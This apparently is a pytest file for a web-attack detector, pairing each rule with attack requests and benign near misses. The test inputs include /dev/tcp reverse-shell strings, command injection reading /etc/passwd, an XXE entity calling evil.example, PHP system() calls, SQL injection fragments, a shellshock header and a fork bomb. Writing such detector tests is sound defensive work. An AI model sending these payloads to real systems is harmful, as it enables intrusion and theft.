"""Rules for whole-value command lines, PHP call shapes, SQL fragments and smaller probes
(:mod:`rules_shell`, :mod:`rules_php`, :mod:`rules_sqlfrag`, :mod:`rules_probes`).

Each rule gets requests that must fire it, written from the technique it names, and near misses an
ordinary user, crawler or API client sends that must not (checked at the highest paranoia level, so
a near miss proves the pattern itself, not the level, keeps it quiet). Requests go through the whole
detector, so the prefilter, the decoding and the part splitting are exercised too.
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest

from watchhouse.core.events import Dataset
from watchhouse.detectors.web import prefilter, rules_php, rules_probes, rules_shell, rules_sqlfrag
from watchhouse.detectors.web.attack_patterns import WebAttackDetector
from watchhouse.detectors.web.engines import EngineName, hyperscan_available
from watchhouse.detectors.web.matching import Matcher, request_parts
from watchhouse.detectors.web.rules import default_rules
from watchhouse.testing.factories import make_batch

_BROWSER = {"Host": "shop.example", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept": "text/html"}


def _get(url: str) -> dict[str, Any]:
    return {"source.ip": "203.0.113.30", "http.request.method": "GET", "url.original": url}


def _post(body: str, content_type: str = "application/x-www-form-urlencoded") -> dict[str, Any]:
    return {
        "source.ip": "203.0.113.30",
        "http.request.method": "POST",
        "url.original": "/submit",
        "http.request.body.content": body,
        "http.request.headers": json.dumps({**_BROWSER, "Content-Type": content_type}),
    }


def _agent(agent: str) -> dict[str, Any]:
    return {
        **_get("/"),
        "user_agent.original": agent,
        "http.request.headers": json.dumps({**_BROWSER, "User-Agent": agent}),
    }


def _header(name: str, value: str) -> dict[str, Any]:
    return {**_get("/upload"), "http.request.headers": json.dumps({**_BROWSER, name: value})}


# (rule, requests that must fire it, requests that must not)
CASES: list[tuple[str, list[dict[str, Any]], list[dict[str, Any]]]] = [
    (
        "WH-SHELL-001",
        [_get("/x?cmd=ls+-la+%2Fvar%2Fwww"), _post("c=dd+if%3D%2Fdev%2Fsda+of%3Dx"), _agent("cat /etc/hosts")],
        [_get("/s?q=cat+food+for+kittens"), _get("/s?q=find+my+order"), _agent("curl/8.5.0")],
    ),
    (
        "WH-SHELL-002",
        [_post("code=ansible-playbook+site.yml"), _get("/x?c=cscli+decisions+list"), _agent("time visudo")],
        [_get("/s?q=chef+recipes"), _agent("ansible-httpget"), _get("/s?q=busy+box+office")],
    ),
    (
        "WH-SHELL-003",
        [_post("host=example.org%3Bcolumn+%2Fetc%2Fpasswd"), _get("/x?h=a%7Cbase32+-d"), _get("/x?h=1%26%26cd+%2Ftmp")],
        [
            _get("/s?q=books+%26+more"),
            _get("/s?q=B%26W+photos"),
            _agent("Mozilla/5.0 (iPhone; CPU iPhone OS 17_0; touch)"),
        ],
    ),
    (
        "WH-SHELL-004",
        [_post("sentence=sort+the+list"), _get("/x?v=top")],
        [_get("/s?q=best+sorting+hat"), _get("/s?q=topology")],
    ),
    (
        "WH-SHELL-005",
        [_get("/x?foo=time+who"), _get("/x?foo=nohup+ls")],
        [_get("/s?q=time+flies"), _get("/s?q=nohup+meaning")],
    ),
    (
        "WH-SHELL-006",
        [
            _get("/contact?to=a%40b.example%0d%0aRCPT+TO%3A%3Cvictim%40c.example%3E"),
            _post("m=x%0D%0AEHLO+evil.example"),
        ],
        [_post("comment=line+one%0D%0Amail+from+grandma"), _get("/contact?to=a%40b.example")],
    ),
    (
        "WH-SHELL-007",
        [_post("t=x%0d%0aa001+SELECT+INBOX"), _get("/m?x=%0d%0aRETR+1")],
        [_post("comment=list%0D%0Aselect+the+best"), _get("/m?x=retrieve+1")],
    ),
    (
        "WH-SHELL-008",
        [_get("/m?x=%0d%0aQUIT"), _post("t=a%0aNOOP")],
        [_post("comment=we+quit%0D%0Atoday+early"), _get("/m?x=help")],
    ),
    (
        "WH-SHELL-009",
        [_agent(";cp /var/log/apache2/error.log /var/www/x.php"), _agent("a;env")],
        [_agent("Mozilla/5.0 (Linux; Android 14; id) AppleWebKit/537.36"), _agent("Mozilla/5.0 (compatible; env)")],
    ),
    (
        "WH-SHELL-010",
        [_get("/x?c=exec+5%3C%3E%2Fdev%2Ftcp%2F198.51.100.7%2F4444"), _post("c=sh+%3E%24d%2Ftcp%2F198.51.100.7%2F80")],
        [_get("/docs/dev/tcp-tuning"), _get("/x?p=%2Fdev%2Fnull")],
    ),
    (
        "WH-SHELL-011",
        [_get("/x?ip=%3B%24a+cat+x.txt"), _post("c=a%3D1%26%26%24c+%24a")],
        [_get("/s?q=price%3B+%24+sign"), _get("/x?q=%24USD+rate")],
    ),
    (
        "WH-SHELL-012",
        [_post("var=%60cut+-d%3A+-f1+x%60"), _get("/x?v=%24(dig+evil.example)")],
        [_post("md=use+%60cut%60+to+trim"), _get("/x?v=%24(price)")],
    ),
    (
        "WH-PHP-007",
        [_get("/x?f=fopen+%2F*x*%2F+(%27a%27)"), _get("/x?f=FOOcall_user_func()"), _get("/x?f=strrev%09(%24a)")],
        [_get("/s?q=fopen+manual"), _get("/s?q=call+user+function")],
    ),
    (
        "WH-PHP-008",
        [_get("/x?f=exec%0d%0a(%24cmd)"), _get("/x?f=system(%27id%27)"), _get("/x?f=eval++(blah)")],
        [_get("/s?q=file+(attached)"), _get("/s?q=touch+(screen)")],
    ),
    (
        "WH-PHP-009",
        [_post("a=%24_GET%5B0%5D(%24_GET%5B1%5D)"), _post("a=%24obj-%3E%24method()"), _post("a=%24f%0d%0a+(1)")],
        [_post("price=%2410+(approx)"), _post("tpl=%24%7Bname%7D")],
    ),
    (
        "WH-PHP-010",
        [_get("/x?x=(system)(ls)%3B"), _get("/x?x=%22system%22(ls)%3B"), _get("/x?x=%22%5Cx73ystem%22(id)")],
        [_get("/s?q=(system)+requirements"), _get("/s?q=%22system%22+design")],
    ),
    (
        "WH-PHP-011",
        [
            _get("/x?t=%7Bphp%7Decho+1%7B%2Fphp%7D"),
            _get("/x?t=%5Bphp%5Dphpinfo()%5B%2Fphp%5D"),
            _get("/x?t=test%3C%3F"),
        ],
        [_get("/s?q=php+tutorial"), _get("/s?q=what%3F")],
    ),
    (
        "WH-PHP-012",
        [_post("v=auto_prepend_file%3D%2Ftmp%2Fx"), _post("v=opcache.enable%3D0")],
        [_post("v=session+expired"), _post("engine=v8")],
    ),
    (
        "WH-PHP-013",
        [_header("X-Filename", "sess_k2l3m4n5o6p7q8r9s0t1"), _header("X-File-Name", "/tmp/sess_abcdefghijklmnop")],
        [_header("X-Filename", "session-notes.txt"), _header("X-Filename", "sess_short")],
    ),
    (
        "WH-PHP-014",
        [_get("/x?file=ssh2.exec%3A%2F%2Fu%3Ap%40example.org%3A22%2Fid")],
        [_get("/docs/ssh2-extension")],
    ),
    (
        "WH-PHP-015",
        [_get("/x?f=ldap_get_entries()"), _get("/x?f=sodium_crypto_box+(")],
        [_get("/s?q=ldap_get_entries+manual"), _get("/s?q=snake_case")],
    ),
    (
        "WH-SQLI-028",
        [_post("c=%29+AS+total+FROM"), _post("c=%60+AS+%60user_id%60+from")],
        [_post("q=known+as+the+king+from+memphis"), _post("q=as+seen+from+space")],
    ),
    (
        "WH-SQLI-029",
        [_post("sort=ORDER+BY"), _post("op=XOR"), _post("op=IS+NOT+NULL"), _post("p=execute+sp_who")],
        [_post("q=order+by+phone"), _post("q=exclusive+or")],
    ),
    (
        "WH-SQLI-030",
        [_post("pay=FLOOR+%28"), _post("pay=values+%28")],
        [_post("q=floor+plan+(new)"), _post("q=value+(usd)")],
    ),
    (
        "WH-SQLI-031",
        [_get("/i?id=1+and+ascii(select+1)"), _get("/i?id=1+in+(2147483647%2C-1)")],
        [_get("/s?q=in+(the+end)"), _get("/s?q=count+(of+monte+cristo)")],
    ),
    (
        "WH-SQLI-032",
        [_post("e=user%27collate+nocase--"), _post("e=%27+notnull+--")],
        [_post("q=it%27s+not+easy+--+really"), _post("q=o%27neil")],
    ),
    (
        "WH-SQLI-033",
        [_post("v=a%27or%27a"), _post("v=%27%7C%7Ctrue"), _post("v=%27+or+json_valid+(id)%3B")],
        [_post("q=rock+%27n%27+roll"), _post("q=%27cats%27+or+%27dogs%27"), _post("q=either+or")],
    ),
    (
        "WH-SQLI-034",
        [_post("q=%27x%27!%3D%27y"), _post("u=%27admin%27%2C+%271%27%3D%271%27")],
        [_post("q=%27hello%27+world"), _post("q=a%3Db")],
    ),
    (
        "WH-SQLI-035",
        [_get("/x?a=1%27%3D%271"), _get("/x?a=11!%3D1"), _get("/x?v=or+88"), _get("/x?a=1%3C%3E2")],
        [_get("/x?a=1"), _get("/x?v=or+else"), _get("/search?q=1%3D1"), _get("/search?q=2%3E%3D1")],
    ),
    (
        "WH-SQLI-036",
        [_post("a=CREATE+TABLE+t+(a+int)"), _post("a=declare+%40b+int"), _post("a=SELECT+(CASE+WHEN")],
        [_post("q=create+table+reservations+online"), _post("q=declare+income")],
    ),
    (
        "WH-SQLI-037",
        [_get("/i?id=password%3A%3Aint"), _get("/i?id=lo_get(16400)"), _get("/i?p=utl_http.request")],
        [_get("/s?q=c%2B%2B+std%3A%3Avector"), _get("/s?q=utility+http")],
    ),
    (
        "WH-SQLI-038",
        [_post("x=%27+union%2F"), _post("x=%22+ALTER+TABLE")],
        [_post("q=union+square"), _post("q=alter+ego")],
    ),
    (
        "WH-SQLI-039",
        [_get("/api/users?user__profile__icontains=adm"), _post('{"a__b__startswith": "x"}', "application/json")],
        [_get("/api/users?user_profile=adm"), _get("/api/users?__init__=1")],
    ),
    (
        "WH-SQLI-040",
        [_get("/api/users?username__startswith=p"), _get("/api/users?email__iexact=a%40b.example")],
        [_get("/api/users?username=p"), _get("/api/items?__gte=1")],
    ),
    (
        "WH-SQLI-041",
        [_post("x=%2F3+or+"), _post("x=%40example.com%26name%3D(select"), _post("x=case+when+1+then")],
        [_post("q=this+or+that"), _post("q=either+or"), _post("q=in+case+of+rain"), _post("q=drop+shipping")],
    ),
    (
        "WH-SQLI-042",
        [_get("/x?v=4294967296"), _get("/x?t=9999+or+%2F*%2Bhint*%2F+true"), _post("t=nvarchar")],
        [_get("/x?v=429496"), _post("t=varnish")],
    ),
    (
        "WH-SQLI-043",
        [_post("p=%27%3A0%3A6"), _post("p=%60%3E65")],
        [_post("p=tom"), _post("p=2024-01-01")],
    ),
    (
        "WH-SQLI-044",
        [_post("v=((((((()))))))"), _post("v=!%40%23%24%25%5E%26*()")],
        [_post("v=a+(b)+c"), _post("v=hello.world")],
    ),
    (
        "WH-SQLI-045",
        [_post("v=!%40"), _post("v=a%3Cb%3E")],
        [_post("v=hello+world"), _post("v=12345")],
    ),
    (
        "WH-CMDI-018",
        [_get("/x?h=c%24%40at+%2Fet%24%40c%2Fpasswd"), _get("/x?x=pi%60%60ng+127.0.0.1")],
        [_get("/x?price=US%245"), _get("/x?q=%24_POST+tutorial")],
    ),
    (
        "WH-CMDI-019",
        [_post("cmd=f()%7B+f%7Cf%26+%7D%3Bf"), _agent("x(){ x|x& };x")],
        [_post("q=hello()+%7B+world+%7D"), _post("q=f()+%7B")],
    ),
    (
        "WH-CMDI-020",
        [_get("/x?a=%7B%2Cip%2Ca%7D"), _get("/x?a=c%7Ba%2Coun%7Dt")],
        [_get("/x?tpl=%7Ba%2Cb%7D"), _get("/x?json=%7B%22a%22%3A1%7D")],
    ),
    (
        "WH-CMDI-021",
        [_get("/x?d=~%2B"), _get("/x?d=~-1")],
        [_get("/x?d=~"), _get("/x?d=~user")],
    ),
    (
        "WH-CMDI-022",
        [_get("/x?q=1%3B.shell+id"), _get("/x?q=x%3B+.system+id")],
        [_get("/s?q=shell.com"), _get("/s?q=end.+shell+out")],
    ),
    (
        "WH-CMDI-023",
        [_header("X-Test", "() { ignored; }"), _get("/x?a=%28%29+%7B")],
        [_header("X-Test", "(see above) { }"), _get("/x?a=f()+%7B")],
    ),
    (
        "WH-RFI-003",
        [
            _get("/x?u=http%3A%2F%2Fexample.com%40evil.example%2F"),
            _get("/x?u=ftp%3A%2F%2Ffiles.example"),
            _get("/x?u=jar%3Ahttp%3A%2F%2Fe.example%2Fa.zip!b"),
        ],
        [_get("/x?u=https%3A%2F%2Fshop.example%2Fcart"), _get("/x?u=https%3A%2F%2Fmastodon.example%2F%40user")],
    ),
    (
        "WH-RFI-004",
        [_get("/proxy/https://evil.example/x")],
        [_get("/docs/https-guide")],
    ),
    (
        "WH-SSRF-007",
        [_get("/f?u=http%3A2852039166"), _get("/f?u=http%3A%2F0251.0376.0251.0376"), _get("/f?u=lvh.me%2F")],
        [_get("/f?u=https%3A%2F%2Fexample.com%2F"), _get("/f?phone=2852039166")],
    ),
    (
        "WH-PATH-008",
        [_agent("/root/.aws/credentials"), _get("/x?f=%2Fproc%2Finterrupts"), _get("/x?f=%2Fetc%2Fsubuid")],
        [_agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64)"), _get("/x?f=%2Fsys-admin-guide")],
    ),
    (
        "WH-PATH-009",
        [_get("/backup.sql.zip"), _get("/wp-content/debug.log"), _get("/x?f=..%5Cwin.txt")],
        [_get("/docs/sql-zip-guide"), _get("/wp-content/uploads/log.png")],
    ),
    (
        "WH-XSS-014",
        [_get("/x?a=alert()"), _post("a=document.querySelector(%22p%22)")],
        [_get("/s?q=alert+me"), _get("/settings?section=alert+%28email%29"), _post("a=document+scanner")],
    ),
    (
        "WH-XSS-015",
        [
            _agent("x<!ENTITY % ent SYSTEM 'http://evil.example/x'>"),
            _post("x=%3C!ENTITY+a+SYSTEM+%22file%3A%2F%2F%2F%22"),
        ],
        [_agent("Mozilla/5.0 (entity browser)"), _post("x=entity+system")],
    ),
    (
        "WH-XSS-016",
        [_post("c=--%3E%3Cimg"), _post("c=x--%3E")],
        [_post("c=a+-%3E+b"), _post("c=a+--+b")],
    ),
    (
        "WH-XSS-017",
        [_get("/x?%20%20onload%3d%20=1"), _get("/x?a=+onmouseover%3D")],
        [_get("/x?q=online"), _get("/x?q=on+time")],
    ),
    (
        "WH-JAVA-006",
        [_post("x=java.lang.Runtime"), _post("x=java.evil.ProcessBuilder")],
        [_post("x=java.util.List"), _post("x=javascript+runtime")],
    ),
    (
        "WH-PROTO-009",
        [_get("/x?a=test%0Dnext%3Dmore"), _get("/x?a=b&%0d%0aX-Forwarded-For:%201.2.3.4")],
        [_get("/x?a=line%20one"), _get("/x?a=b%0d%0a")],
    ),
]


def _rules(rows: list[dict[str, Any]], level: int) -> list[set[str]]:
    batch = make_batch(Dataset.HTTP, rows)
    by_line = {
        f.evidence[0].line: set(f.details["rules"]) for f in WebAttackDetector(paranoia_level=level).detect(batch)
    }
    return [by_line.get(i + 1, set()) for i in range(len(rows))]


def _show(row: dict[str, Any]) -> str:
    return f"{row['url.original']} {row.get('http.request.body.content')} {row.get('user_agent.original')}"


@pytest.mark.parametrize(("rule_id", "positives", "near_misses"), CASES, ids=[c[0] for c in CASES])
def test_rule_fires_on_its_technique_and_not_on_the_near_miss(
    rule_id: str, positives: list[dict[str, Any]], near_misses: list[dict[str, Any]]
) -> None:
    level = max(default_rules().by_id(rule_id).paranoia, 2)
    for row, fired in zip(positives, _rules(positives, level), strict=True):
        assert rule_id in fired, f"{rule_id} missed {_show(row)}"
    for row, fired in zip(near_misses, _rules(near_misses, 4), strict=True):
        assert rule_id not in fired, f"{rule_id} fired on {_show(row)}"


def test_every_rule_of_these_modules_has_cases() -> None:
    ids = {rule.id for module in (rules_shell, rules_php, rules_sqlfrag, rules_probes) for rule in module.RULES}
    assert ids == {rule_id for rule_id, _, _ in CASES}


def test_noisy_shapes_wait_for_the_paranoid_levels() -> None:
    rules = default_rules()
    paranoid = {"WH-SHELL-004", "WH-SHELL-005", "WH-SHELL-008", "WH-PHP-015", "WH-SQLI-038", "WH-SQLI-040"}
    paranoid |= {"WH-SQLI-043", "WH-SQLI-044", "WH-SQLI-045", "WH-XSS-016", "WH-RFI-004"}
    assert all(rules.by_id(rule_id).paranoia >= 3 for rule_id in paranoid)
    assert all(rules.by_id(rule_id).paranoia <= 2 for rule_id, _, _ in CASES if rule_id not in paranoid)


def test_module_symptoms_compile_and_flag_their_raw_values() -> None:
    # the prefilter may OR these in: each must accept the raw text of a value its rules are written for
    samples = {
        rules_php: ["var=opcache.jit_buffer_size%3d50", "sess_0123456789abcdefghij", "ssh2.shell://h"],
        rules_sqlfrag: ["a=1=1", "x=ORder+by", "p=utl_http", "q=IS+NOT+NULL"],
        rules_probes: ["d=~%2B", "/proc/interrupts", "u__name__icontains=x", "x=java.Runtime"],
    }
    for module, values in samples.items():
        pattern = re.compile(module.SYMPTOMS, re.IGNORECASE)
        assert all(pattern.search(value) for value in values), module.__name__


@pytest.mark.skipif(not hyperscan_available(), reason="the hyperscan wheel is not installed here")
def test_both_engines_agree_on_these_rules() -> None:
    rows = [row for _, positives, near in CASES for row in (*positives, *near)]
    parts = [
        part
        for row in rows
        for part in request_parts(
            row["url.original"],
            row.get("http.request.body.content"),
            None,
            row.get("user_agent.original"),
            row.get("http.request.headers"),
        )
    ]
    rules = default_rules()
    symptoms = prefilter.part_symptoms(4)
    fast = [(i, h.rule.id) for i, h in Matcher(rules, symptoms, EngineName.HYPERSCAN).match(parts)]
    slow = [(i, h.rule.id) for i, h in Matcher(rules, symptoms, EngineName.POLARS).match(parts)]
    assert fast and fast == slow


def test_a_lone_ampersand_before_a_bare_word_is_prose() -> None:
    # WH-CMDI-001: "books & more" is a shop's menu; "127.0.0.1&id" glues the command to the separator
    quiet, glued, spaced = _rules(
        [_get("/s?q=books+%26+more&n=o%27neil"), _get("/x?ip=127.0.0.1%26id"), _get("/x?ip=1%26+cat+%2Fetc%2Fhosts")], 4
    )
    assert "WH-CMDI-001" not in quiet
    assert "WH-CMDI-001" in glued and "WH-CMDI-001" in spaced
